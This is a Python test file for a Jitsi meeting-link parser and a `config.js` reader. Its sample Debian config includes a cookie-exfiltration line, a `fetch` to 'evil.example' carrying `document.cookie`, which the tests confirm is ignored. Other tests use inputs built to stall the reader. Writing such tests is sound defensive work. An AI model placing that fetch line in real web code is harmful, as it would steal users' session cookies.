"""Which texts link to a Jitsi room, and what is read of a deployment's `config.js`."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tui.wire.jitsi_link import (
    CONFIG_MAX_CHARACTERS,
    JitsiLink,
    parse_jitsi_link,
    read_config,
    room_name,
)

DEBIAN = """
/* eslint-disable no-unused-vars, no-var */
var subdomain = "<!--# echo var="subdomain" default="" -->";
if (subdomain) {
    subdomain = subdomain.substr(0, subdomain.length - 1).split('.')
        .join('_').toLowerCase() + '.';
}
var config = {
    hosts: {
        domain: 'meet.example',
        // anonymousdomain: 'guest.example.com',
        muc: 'conference.' + subdomain + 'meet.example', // FIXME: use XEP-0030
    },
    bosh: 'https://meet.example/' + subdir + 'http-bind',
    // websocket: 'wss://wrong.example/xmpp-websocket',
    websocket: 'wss://xmpp.example/' + subdir + 'xmpp-websocket',
    p2p: { enabled: true, stunServers: [{ urls: 'stun:x:443' }] },
    hiddenDomain: 'recorder.meet.example',
    evil: fetch('http://evil.example/' + document.cookie),
};
"""
DOCKER = """
var subdomain = 'team.a.'; var subdir = 'team.a/';
if (subdir.startsWith('<!--')) { subdir = ''; }
config.hosts = {};
config.hosts.domain = 'meet.jitsi';
config.hosts.muc = 'muc.' + subdomain + 'meet.jitsi';
config.websocket = 'wss://' + window.location.host + '/' + subdir + 'xmpp-websocket';
config.bridgeChannel = { preferSctp: true };
"""


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("https://meet.example/Room", JitsiLink("https://meet.example", "room", "Room")),
        ("meet.example/Room", JitsiLink("https://meet.example", "room", "Room")),
        ("<https://meet.example/Room/>", JitsiLink("https://meet.example", "room", "Room")),
        (
            "https://meet.example:8443/team/Stand%20Up?jwt=a.b-c#config.startWithAudioMuted=true",
            JitsiLink("https://meet.example:8443/team", "stand%20up", "Stand Up", "a.b-c"),
        ),
        ("localhost:8000/x", JitsiLink("http://localhost:8000", "x", "x")),
        ("jitsi-meet://meet.example/x", JitsiLink("https://meet.example", "x", "x")),
        ("https://meet.example/Ä(1)", JitsiLink("https://meet.example", "%c3%a41", "Ä(1)")),
    ],
)
def test_links(text: str, expected: JitsiLink) -> None:
    assert parse_jitsi_link(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "standup",
        "team/standup",
        "https://meet.example/",
        "https://meet.example",
        "http://127.0.0.1:7880/join/standup",
        "https://calls.example/sub/join/standup?token=x",
        "wss://host/room",
        "https://somebody@meet.example/Room",
        "https://meet.example/%ff",
        "https://meet.example/Room?jwt=a%0ab",
        "",
    ],
)
def test_what_is_no_link_to_a_jitsi_room(text: str) -> None:
    assert parse_jitsi_link(text) is None


def test_what_is_said_to_be_one() -> None:
    forced = parse_jitsi_link("https://meet.example/join/Room", forced=True)
    assert forced == JitsiLink("https://meet.example/join", "room", "Room")
    assert parse_jitsi_link("box/Room", forced=True) == JitsiLink("https://box", "room", "Room")


@given(st.text())
def test_any_text_is_a_link_or_none(text: str) -> None:
    for forced in (False, True):
        link = parse_jitsi_link(text, forced=forced)
        assert link is None or (link.room and link.site.startswith(("http://", "https://")))
    assert room_name(text) == room_name(text).lower()


def test_a_link_for_others_has_no_token() -> None:
    link = parse_jitsi_link("https://meet.example/Stand%20Up?jwt=secret")
    assert link is not None
    assert link.url == "https://meet.example/Stand%20Up"
    assert parse_jitsi_link(link.url) == JitsiLink(link.site, link.room, link.label)


def test_the_config_of_a_debian_package() -> None:
    config = read_config(DEBIAN, "meet.example")
    assert config["hosts.domain"] == "meet.example"
    assert config["hosts.muc"] == "conference.meet.example"
    assert config["websocket"] == "wss://xmpp.example/xmpp-websocket"
    assert config["hiddenDomain"] == "recorder.meet.example"
    assert config["p2p.enabled"] == "true"
    assert "hosts.anonymousdomain" not in config
    assert "evil" not in config


def test_the_config_of_a_container_with_a_tenant() -> None:
    config = read_config(DOCKER, "web.example:8443")
    assert config["hosts.muc"] == "muc.team_a.meet.jitsi"
    assert config["websocket"] == "wss://web.example:8443/team.a/xmpp-websocket"
    assert config["bridgeChannel.preferSctp"] == "true"


@given(st.text() | st.text("{}:='\"+,;/*ab.\n"))
def test_any_text_is_a_config(text: str) -> None:
    assert all(isinstance(value, str) for value in read_config(text, "h").values())


@pytest.mark.parametrize("text", ["/* ", "'\\'", '"\\"', "a:{", "a='x'+", "'\\''"])
def test_a_config_made_to_take_for_ever(text: str) -> None:
    began_s = time.monotonic()
    read_config(text * (CONFIG_MAX_CHARACTERS // len(text)), "meet.example")
    assert time.monotonic() - began_s < 20, "it took minutes"
